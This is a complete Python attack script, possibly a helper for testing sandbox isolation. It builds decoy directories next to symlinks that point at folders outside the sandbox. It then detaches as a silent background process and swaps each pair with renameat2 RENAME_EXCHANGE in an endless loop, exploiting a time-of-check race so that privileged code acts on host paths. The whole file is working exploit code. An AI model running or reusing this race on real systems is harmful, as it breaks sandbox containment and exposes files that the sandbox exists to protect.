"""Runs inside a sandbox: swaps folders for links without end.

``python swapper.py FOLDERS``: folders outside of the sandbox, and the names of files in them.
"""

from __future__ import annotations

import ctypes
import json
import os
import sys
from pathlib import Path

SWAPS = 2
AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)


def main() -> None:
    bait: dict[str, list[str]] = json.loads(sys.argv[1])
    for folder, names in bait.items():
        for number in range(SWAPS):
            inside = Path(f"swap/{number}/{Path(folder).name}")
            inside.mkdir(parents=True)
            for name in names:
                (inside / name).write_text("mine")
            Path(f"swap/{number}/link").symlink_to(folder)
    if os.fork():
        return
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for stream in range(3):
        os.dup2(nothing, stream)
    pairs = [
        (f"swap/{number}/{Path(folder).name}".encode(), f"swap/{number}/link".encode())
        for folder in bait
        for number in range(SWAPS)
    ]
    while True:
        for folder_name, link in pairs:
            libc.renameat2(AT_FDCWD, folder_name, AT_FDCWD, link, RENAME_EXCHANGE)


if __name__ == "__main__":
    main()
